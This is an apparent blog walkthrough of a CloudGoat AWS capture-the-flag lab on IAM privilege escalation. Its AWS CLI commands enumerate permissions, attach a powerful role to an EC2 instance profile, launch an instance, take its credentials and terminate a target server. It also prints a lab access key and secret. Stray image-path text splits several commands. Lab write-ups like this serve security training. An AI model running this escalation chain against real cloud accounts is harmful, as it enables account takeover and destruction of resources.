Cloudgoat AWS CTF solution- Scenerio 5 (iam_privesc_by_attachment)

5 min readOct 19, 2022

Scenario: iam_privesc_by_attachment


git clone
cd cloudgoat
chmod +x
./ create iam_privesc_by_attachment

Scenario Resources

  • 1 VPC with: EC2 x 1• 1 IAM User

Scenario Start(s)

  1. IAM User “Kerrigan”

Scenario Goal(s)

Delete the EC2 instance “cg-super-critical-security-server”


Starting with a very limited set of permissions, the attacker is able to leverage the instance-profile-attachment permissions to create a new EC2 instance with significantly greater privileges than their own. With access to this new EC2 instance, the attacker gains full administrative powers within the target account and is able to accomplish the scenario’s goal — deleting the cg-super-critical-security-server and paving the way for furthernefarious actions.

Exploitation Route(s)

Walkthrough — IAM User “kerrigan”

  1. Starting as the IAM user “Kerrigan,” the attacker uses their limited privileges to explore the environment.

a. Used pacu’s “iam__bruteforce_permissions” module to enumerate permissions-

run iam__bruteforce_permissions


b. Using iam-enumerate to Bruteforce permissions.

git clone
cd enumerate-iam/
pip3 install -r requirements.txt
cd enumerate_iam
git clone

after downloading aws-sdk-js in “enumerate_iam” folder run the script.

c. Running “enumerate-iam

python3 --access-key AKIA4SM4ZEUHX7V5LYEU --secret-key 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

2. Checking running ec2 instances using ec2:DescribeInstances-

aws ec2 describe-instances --region us-east-1 --profile kerrigan --output text3. Checking available instance profiles-

aws iam list-instance-profiles --profile kerrigan

We found a interesting instance profile “arn:aws:iam::864154101007:instance-profile/cg-ec2-meek-instance-profile-iam_privesc_by_attachment_cgidztq4yffc22” with role “cg-ec2-meek-role-iam_privesc_by_attachment_cgidztq4yffc22”.

4. Let’s list roles as we have list-roles permissions-

aws iam list-roles --profile kerrigan

We found 2 interesting roles-

cg-ec2-meek-role-iam_privesc_by_attachment_cgidztq4yffc22 and cg-ec2-mighty-role-iam_privesc_by_attachment_cgidztq4yffc22 and by looking at the name “mighty” one seems more interesting.

5. Let’s try to add “mighty” role to the instance profile.Note: Our enumeration tools like pacu or iam-enumerate were unable to determine these four permissions-

“iam:AddRoleToInstanceProfile”,“iam:RemoveRoleFromInstanceProfile”, “ec2:AssociateIamInstanceProfile”,”ec2:RunInstances

but upon manually checking I found our user has these additional permissions..

aws iam add-role-to-instance-profile --instance-profile-name cg-ec2-meek-instance-profile-iam_privesc_by_attachment_cgidztq4yffc22 --role-name cg-ec2-mighty-role-iam_privesc_by_attachment_cgidztq4yffc22  --profile kerrigan

we got an error “Cannot exceed quota for InstanceSessionsPerInstanceProfile: 1”. Let’s try to remove the existing attached role and try to add “mighty” role-

aws iam remove-role-from-instance-profile --instance-profile-name cg-ec2-meek-instance-profile-iam_privesc_by_attachment_cgidztq4yffc22 --role-name cg-ec2-meek-role-iam_privesc_by_attachment_cgidztq4yffc22 --profile kerriganaws iam add-role-to-instance-profile --instance-profile-name cg-ec2-meek-instance-profile-iam_privesc_by_attachment_cgidztq4yffc22 --role-name cg-ec2-mighty-role-iam_privesc_by_attachment_cgidztq4yffc22  --profile kerrigan
we didn’t got any error this time

6. Now we can use “AssociateIamInstanceProfile” permission to associate this profile(“cg-ec2-meek-instance-profile-iam_privesc_by_attachment_cgidztq4yffc22”) with running ec2.

aws ec2 associate-iam-instance-profile --iam-instance-profile file://instance_profile.json --instance-id "i-0f1a8f37275d27fcd" --profile kerrigan --region

7. No we are ready to spin an ec2 instance with full permissions

a) Creating ec2 ssh_key_pair

aws ec2 create-key-pair --key-name pwned --profile kerrigan --query 'KeyMaterial' --region us-east-1 --output text > pwned.pem

b) Running ec2-

aws ec2 describe-security-groups --profile kerrigan --region us-east-1aws ec2 describe-subnets --profile kerrigan --region us-east-1
aws ec2 run-instances --image-id ami-0a313d6098716f372 --instance-type t2.micro --iam-instance-profile Arn=arn:aws:iam::864154101007:instance-profile/cg-ec2-meek-instance-profile-iam_privesc_by_attachment_cgid7c11loyvlf--key-name pwned --profile kerrigan --subnet-id subnet-07be3953f5accbd47 --security-group-ids sg-0523b1376503ede0a --region us-east-1
Then use describeinstance to get public ip

8. Logging in and fetching credentials from this instance-

ssh -i pwned.pem ubuntu@


We can directly install aws cli withing the ec2 instance and then run the commands within ec2cli.

9. Using these credentials to delete “cg-super-critical-security-server”

#Determining instance id
aws ec2 describe-instances --region us-east-1 --profile ec2_role


awsec2 terminate-instances --instance-idsi-0064345de3f005c7a --region us-east-1 --profile ec2_role